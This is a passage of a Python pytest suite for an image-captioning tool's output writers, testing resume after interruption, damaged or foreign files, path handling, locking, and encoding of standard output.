    before = content(tmp_path)
    with pytest.raises(
        BadOutput, match=r"model was mini and is now blip; num_beams was 2 and is now not given.*another output"
    ):
        open_out(out, resume=True, settings={"model": "blip"})
    assert content(tmp_path) == before
    write(open_out(out, resume=True, settings={"num_beams": 2, "model": "mini"}), items)
    whole = {path: data for path, data in content(out).items() if "run.json" not in path}
    write(open_out(tmp_path / f"plain-{name}"), items)
    assert [*whole.values()] == [*content(tmp_path / f"plain-{name}").values()]
    if name == "set":
        import datasets

        folder, cache = str(out), str(tmp_path / "cache")
        read = datasets.load_dataset("imagefolder", data_dir=folder, cache_dir=cache)["train"]
        assert sorted(read["text"]) == ["prompt 0", "prompt 1"]


def test_overwriting_takes_the_new_settings(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png"])
    for settings in ({"model": "mini"}, {"model": "blip"}):
        write(open_out(tmp_path / "a.csv", overwrite=True, settings=settings), items)
        write(open_out(tmp_path / "a.csv", resume=True, settings=settings), items)


@pytest.mark.parametrize("finished", [True, False])
def test_a_picture_is_the_same_by_its_relative_and_its_absolute_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, finished: bool
) -> None:
    absolute = results(tmp_path / "in", ["1.png", "2.png"])
    names = [os.path.relpath(item.source.path, tmp_path) for item in absolute]
    relative = [
        Result(Source(name, path=Path(name)), item.row | {"file": name})
        for name, item in zip(names, absolute, strict=True)
    ]
    monkeypatch.chdir(tmp_path)
    (write if finished else interrupted)(open_out(Path("a.csv"), settings={"model": "mini"}), relative[:1])
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir("elsewhere")
    sink = open_out(Path("../a.csv"), resume=True, settings={"model": "mini"})
    with sink:
        assert not sink.wants(absolute[0].source)
        assert sink.wants(absolute[1].source)
        with pytest.raises(BadOutput, match="named from"):
            sink.wants(Source("in/1.png", path=Path("in/1.png")))
        sink.write(absolute[1:])
    with open(tmp_path / "a.csv", encoding="utf-8", newline="") as stream:
        assert [row["file"] for row in csv.DictReader(stream)] == [names[0], str(absolute[1].source.path)]


def test_a_picture_is_the_same_in_whatever_case_windows_names_it(monkeypatch: pytest.MonkeyPatch) -> None:
    names = (("in\\1.png", "C:\\Photos"), ("IN/1.png", "c:\\photos"), ("c:\\photos\\in\\1.PNG", "D:\\"))
    with monkeypatch.context() as windows:
        windows.setattr(os, "path", ntpath)
        keys = {picture_key(*name) for name in names}
    assert len(keys) == 1


# --- what is the user's own ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["text", "line", "folder", "link"])
def test_a_list_of_errors_that_is_not_ours_is_left_alone(tmp_path: Path, kind: str) -> None:
    (tmp_path / "mine").write_text("mine\n")

    def plant(path: Path) -> None:
        if kind in ("text", "line"):
            path.write_text("mine\n" if kind == "text" else "mine", encoding="utf-8")
        elif kind == "folder":
            path.mkdir()
        else:
            path.symlink_to(tmp_path / "mine")

    plant(tmp_path / "a.jsonl.errors.jsonl")
    plant(tmp_path / "captioner-errors.jsonl")
    for settings in ({}, {"resume": True}, {"overwrite": True}):
        with pytest.raises(BadOutput, match="not a list of errors"):
            open_out(tmp_path / "a.jsonl", **settings)
    with pytest.raises(BadOutput, match="not a list of errors"):
        Sidecars([str(tmp_path)])
    assert (tmp_path / "mine").read_text() == "mine\n"
    assert sorted(os.listdir(tmp_path)) == ["a.jsonl.errors.jsonl", "captioner-errors.jsonl", "mine"]


@pytest.mark.parametrize("text", ["mine\n", "5\n", '{"file": 5}\n', '{"file": "a.png", "text": "a"}\n', "mine"])
def test_a_journal_that_is_not_ours_is_left_alone(tmp_path: Path, text: str) -> None:
    (tmp_path / "a.jsonl.part").write_text(text)
    for settings in ({}, {"resume": True}, {"overwrite": True}):
        with pytest.raises(BadOutput, match="not written by this command"):
            open_out(tmp_path / "a.jsonl", **settings)
        assert (tmp_path / "a.jsonl.part").read_text() == text


@pytest.mark.parametrize("damage", [b"5\n", b'{"file": 5}\n', b"[" * 9999 + b"\n", bytes(99), b"\xff\n"])
def test_a_damaged_journal_is_cut_where_the_damage_begins(tmp_path: Path, damage: bytes) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    interrupted(FileSink(tmp_path / "a.jsonl"), items[:1])
    with open(tmp_path / "a.jsonl.part", "ab") as stream:
        stream.write(damage)
    write(FileSink(tmp_path / "a.jsonl", resume=True), items)
    assert len((tmp_path / "a.jsonl").read_text().splitlines()) == 2


def test_a_journal_that_a_power_failure_left_as_zeros_is_begun_anew(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl.part").write_bytes(bytes(99))
    write(FileSink(tmp_path / "a.jsonl", resume=True), results(tmp_path / "in", ["1.png"]))
    assert len((tmp_path / "a.jsonl").read_text().splitlines()) == 1


def test_settings_of_a_finished_run_that_are_none(tmp_path: Path) -> None:
    write(FileSink(tmp_path / "a.jsonl", settings={"model": "mini"}), results(tmp_path / "in", ["1.png"]))
    (tmp_path / ".a.jsonl.run.json").write_text('{"model": "mini"}')
    with pytest.raises(BadOutput, match=r"run\.json does not tell the settings of a run: remove it"):
        FileSink(tmp_path / "a.jsonl", resume=True, settings={"model": "mini"})


@pytest.mark.parametrize("cut", [0, 1, 20, None])
def test_a_folder_is_resumable_whatever_was_left(tmp_path: Path, cut: int | None) -> None:
    """Stopped before its first row, or all pictures were bad."""
    items = results(tmp_path / "in", ["1.png"])
    out = tmp_path / "set"
    with ImageFolder(out, settings={"model": "mini"}) as sink:
        sink.fail("bad.png", "bad.png is empty.")
    (out / "1.png").write_bytes(items[0].source.path.read_bytes())  # copied, its row not written
    (out / ".captioner-00000000-1-00.tmp").touch()
    part = out / "metadata.jsonl.part"
    part.write_bytes(part.read_bytes()[:cut])
    with pytest.raises(BadOutput, match="set resume"):
        ImageFolder(out)
    write(ImageFolder(out, resume=True, settings={"model": "mini"}), items)
    assert [json.loads(line)["file_name"] for line in (out / "metadata.jsonl").read_text().splitlines()] == ["1.png"]
    assert not part.exists()


def test_a_folder_that_only_holds_a_list_of_errors_is_resumable(tmp_path: Path) -> None:
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "errors.jsonl").write_text('{"file": "a", "error": "b"}\n')
    write(ImageFolder(tmp_path / "set", resume=True), results(tmp_path / "in", ["1.png"]))
    (tmp_path / "set" / "metadata.jsonl").read_text()


@pytest.mark.parametrize("name", ["é" * 200 + ".jsonl", "a" * 240 + ".csv", "a" * 300])
def test_a_name_that_is_too_long_is_said_at_once(tmp_path: Path, name: str) -> None:
    with pytest.raises(BadOutput, match="too long"):
        open_out(tmp_path / name)
    assert not os.listdir(tmp_path)


def test_a_long_field_of_a_csv_is_read_again_and_the_limit_is_as_before(tmp_path: Path) -> None:
    before = csv.field_size_limit()
    items = results(tmp_path / "in", ["1.png", "2.png"])
    items[0].row["text"] = "a" * (17 << 20)
    write(FileSink(tmp_path / "a.csv"), items[:1])
    write(FileSink(tmp_path / "a.csv", resume=True), items)
    assert csv.field_size_limit() == before


def test_no_line_of_json_holds_nan() -> None:
    row = {"file": "a", "cfg_scale": float("nan"), "more": [float("inf"), {"x": float("-inf")}]}
    assert json.loads(to_json(row), parse_constant=pytest.fail) == {
        "file": "a",
        "cfg_scale": None,
        "more": [None, {"x": None}],
    }


def test_the_journal_is_on_the_disk_before_a_sidecar_changes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    [item] = results(tmp_path, ["1.png"])
    flushed = []
    fsync = os.fsync

    def watched(descriptor: int) -> None:
        fsync(descriptor)
        flushed.append((os.stat(descriptor).st_ino, (tmp_path / "1.txt").exists()))

    monkeypatch.setattr(os, "fsync", watched)
    with Sidecars([str(tmp_path)], "append") as sink:
        assert sink.wants(item.source)
        flushed.clear()
        sink.write([item])
        assert flushed[0] == (sink.journal.path.stat().st_ino, False)


# --- standard output -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_json_is_json_whatever_standard_output_can_print(monkeypatch: pytest.MonkeyPatch, encoding: str) -> None:
    printed = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(printed, encoding, errors="backslashreplace"))
    row = {"file": os.fsdecode(b"caf\xe9.png"), "text": "é ☃ 🎨"}
    with Stdout(to_json) as sink:
        sink.write([Result(Source("a"), row)])
    assert json.loads(printed.getvalue().decode(encoding)) == row


@pytest.mark.parametrize(("encoding", "shown"), [("ascii", "\\xe9"), ("utf-8", "é")])
def test_standard_output_shows_letters_as_it_can(monkeypatch: pytest.MonkeyPatch, encoding: str, shown: str) -> None:
    printed = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(printed, encoding, errors="backslashreplace", newline="\n"))
    results = [Result(Source("a"), {"text": "é\n1"})]
    with Stdout(lambda row: str(row["text"]), named=True) as plain, Stdout(to_json) as lines:
        plain.write(results)
        lines.write(results)
    as_json = '{"text": "é\\n1"}' if encoding == "utf-8" else '{"text": "\\u00e9\\n1"}'
    assert printed.getvalue().decode(encoding) == f"a\t{shown} 1\n{as_json}\n"


def test_a_closed_standard_output_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    with pytest.raises(BadOutput, match="closed"):
        Stdout(to_json)


# --- killed at any line ----------------------------------------------------------------------------------------------

KILLED = '''
"""Fork a run, stop it at the n-th line of the sinks, resume it twice, and compare with an unbroken one; for many n."""
import os, shutil, signal, sys
from pathlib import Path

import captioner.sinks
from captioner.errors import BadOutput
from captioner.images import Source
from captioner.sinks import ImageFolder, Result, Sidecars

kind, number, points, root = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), Path(sys.argv[4])
pictures, out = root / "in", root / "out"
os.environ["CAPTIONER_CACHE"] = str(root / "cache")
SINKS = os.path.dirname(captioner.sinks.__file__)


def set_up():
    for folder in (pictures, out, root / "cache"):
        shutil.rmtree(folder, ignore_errors=True)
    pictures.mkdir(parents=True)
    for name in "abc":
        (pictures / f"{name}.png").write_bytes(name.encode())
    (pictures / "a.txt").write_text("mine")


def run(resume):
    settings = {"model": "mini"}
    if kind == "append":
        sink = Sidecars([str(pictures)], "append", resume=resume, settings=settings)
    else:
        sink = ImageFolder(out, resume=resume, settings=settings)
    with sink:
        sink.fail("bad.png", "bad.png is empty.")
        for batch in ("ab", "c"):
            sources = [Source(f"{name}.png", path=pictures / f"{name}.png") for name in batch]
            wanted = [source for source in sources if sink.wants(source)]
            if wanted:
                sink.write([Result(s, {"file": str(s.path), "text": f"prompt of {s.name}"}) for s in wanted])


def content():
    place = pictures if kind == "append" else out
    return {path.name: path.read_bytes() for path in place.iterdir()}


def stopped_at(line):
    """How many lines ran, by the child's own count; None if it was stopped."""
    reader, writer = os.pipe()
    child = os.fork()
    if not child:
        count = 0

        def trace(frame, event, _):
            nonlocal count
            if not frame.f_code.co_filename.startswith(SINKS):
                return None
            if event == "line":
                count += 1
                if count == line:
                    os.kill(os.getpid(), number)
            return trace

        sys.settrace(trace)
        try:
            run(False)
        except KeyboardInterrupt:
            os._exit(130)
        finally:
            sys.settrace(None)
        os.write(writer, str(count).encode())
        os._exit(0)
    os.close(writer)
    _, status = os.waitpid(child, 0)
    with open(reader) as stream:
        return stream.read(), status


set_up()
count, _ = stopped_at(0)
whole = content()
wrong = []
for line in range(1, int(count), max(1, int(count) // points)):
    set_up()
    _, status = stopped_at(line)
    assert status, line
    for _ in range(2):
        try:
            run(True)
        except BadOutput as error:
            wrong.append((line, str(error)))
        if content() != whole:
            wrong.append((line, sorted(content().items())))
print(int(count), len(range(1, int(count), max(1, int(count) // points))))
assert not wrong, wrong[:3]
'''


@pytest.mark.skipif(not hasattr(os, "fork"), reason="no fork here")
@pytest.mark.parametrize("number", [getattr(signal, "SIGKILL", None), signal.SIGINT])
@pytest.mark.parametrize("kind", ["append", "folder"])
def test_a_run_stopped_at_any_line_resumes_to_the_same_content(tmp_path: Path, kind: str, number: int) -> None:
    command = [sys.executable, "-c", KILLED, kind, str(int(number)), "20", str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


# --- outputs that are there, odd names, disks that cannot do all -----------------------------------------------------


@pytest.mark.parametrize("row", [{"file": "a.png", "text": "x", "mine": 1}, {"text": "x"}, {"text": "x", "label": "y"}])
@pytest.mark.parametrize("ending", [".jsonl", ".csv", ".parquet"])
def test_a_table_of_other_columns_is_not_gone_on_with(tmp_path: Path, ending: str, row: Row) -> None:
    out = tmp_path / f"mine{ending}"
    if ending == ".parquet":
        pyarrow.parquet.write_table(pyarrow.Table.from_pylist([row]), out)
    else:
        lines = [",".join(row), ",".join(map(str, row.values()))] if ending == ".csv" else [json.dumps(row)]
        out.write_text("\n".join(lines) + "\n")
    before = out.read_bytes()
    with pytest.raises(BadOutput, match="not written by this command"):
        FileSink(out, resume=True)
    assert os.listdir(tmp_path) == [out.name]
    assert out.read_bytes() == before


def test_a_folder_of_other_metadata_is_not_gone_on_with(tmp_path: Path) -> None:
    (tmp_path / "set").mkdir()
    (tmp_path / "set" / "metadata.jsonl").write_text('{"file_name": "a.png", "text": "x"}\n')
    with pytest.raises(BadOutput, match="not written by this command"):
        ImageFolder(tmp_path / "set", resume=True)
    assert os.listdir(tmp_path / "set") == ["metadata.jsonl"]


def test_two_runs_that_go_on_at_once_do_not_share_an_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The second begins while the first still reads the finished rows."""
    items = results(tmp_path / "in", ["1.png", "2.png"])
    out = tmp_path / "a.jsonl"
    write(FileSink(out), items[:1])
    read, refused = table.READERS[".jsonl"], []

    def slow(path: Path):
        yield from read(path)
        monkeypatch.setitem(table.READERS, ".jsonl", read)
        with pytest.raises(BadOutput, match="another run") as error:
            FileSink(out, resume=True)
        refused.append(error)

    monkeypatch.setitem(table.READERS, ".jsonl", slow)
    write(FileSink(out, resume=True), items)
    assert refused
    assert len(out.read_text().splitlines()) == 2


def test_a_disk_without_locks_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import fcntl

    def flock(*_: object) -> None:
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(fcntl, "flock", flock)
    with pytest.raises(BadOutput, match=r"cannot be written \(No locks available\)"):
        FileSink(tmp_path / "a.jsonl")


def test_copies_in_a_folder_that_is_named_through_a_link_are_no_new_pictures(tmp_path: Path) -> None:
    [item] = results(tmp_path / "photos", ["1.png"])
    (tmp_path / "link").symlink_to(tmp_path / "photos")
    for folder in ("link", "photos"):
        sink = ImageFolder(tmp_path / "link" / "set", resume=folder == "photos")
        write(sink, [item])
        copy = tmp_path / folder / "set" / "1.png"
        assert not ImageFolder(tmp_path / "photos" / "set", resume=True).wants(Source(str(copy), path=copy))


@pytest.mark.parametrize("name", ["metadata.jsonl", "errors.jsonl", "metadata.csv", "photo .", "猫" * 100 + ".png"])
def test_pictures_of_any_name_are_kept_beside_the_metadata(tmp_path: Path, name: str) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    items = [item._replace(row=item.row | {"file": f"http://x.org/{n}/{name}"}) for n, item in enumerate(items)]
    with ImageFolder(tmp_path / "set") as sink:
        sink.write(items)
        sink.fail("bad.png", "bad.png is empty.")
    names = [json.loads(line)["file_name"] for line in (tmp_path / "set" / "metadata.jsonl").read_text().splitlines()]
    assert len(set(names)) == 2
    assert all(re.search(r"[^ .]\.png$", copy) for copy in names)  # Windows makes no name that ends in a space
    assert [(tmp_path / "set" / copy).read_bytes() for copy in names] == [
        item.source.path.read_bytes()  # type: ignore[union-attr]
        for item in items
    ]
    assert (tmp_path / "set" / "errors.jsonl").read_text() == '{"file": "bad.png", "error": "bad.png is empty."}\n'
